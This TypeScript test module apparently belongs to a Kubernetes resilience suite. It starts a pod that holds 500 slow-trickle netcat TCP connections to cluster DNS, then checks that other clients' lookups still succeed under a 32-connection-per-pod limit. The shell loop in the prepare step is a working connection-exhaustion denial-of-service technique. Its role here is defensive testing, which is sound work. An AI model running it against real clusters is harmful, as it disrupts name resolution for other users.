import { dnsAddress, dnsWorks, must, podBody, startPod } from "../lib/network-claims.ts";
import { type Attack } from "./attack.ts";

const connections = 500;

export const attack: Attack = {
  name: "dns-tcp-hoarding",
  claim: "one pod has at most 32 DNS connections, and others get theirs",
  needs: "node",

  async prepare(target) {
    const dns = await dnsAddress(target);
    // Each connection sends one byte every four seconds, and is reopened when it is closed.
    const trickle = `while true; do (while true; do printf x; sleep 4; done) | nc ${dns} 53 >/dev/null 2>&1; sleep 1; done`;
    const script = `i=0; while [ $i -lt ${connections} ]; do (${trickle}) & i=$((i+1)); done; wait`;
    await startPod(target, podBody("hoarder", script));
  },

  async run(target, signal) {
    const dns = await dnsAddress(target);
    let asked = 0;
    let failed = 0;
    while (!signal.aborted) {
      for (const transport of ["tcp", "udp"] as const) {
        asked++;
        if (!(await dnsWorks(dns, transport))) failed++;
      }
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    if (failed > asked / 100) throw new Error(`${failed} of ${asked} questions of others got no answer`);
    return `${asked - failed} of ${asked} questions of others answered while a pod hoarded ${connections} connections`;
  },

  async cleanUp(target) {
    await must(target, { method: "DELETE", path: `/api/v1/namespaces/${target.namespace}/pods/hoarder` });
  },
};
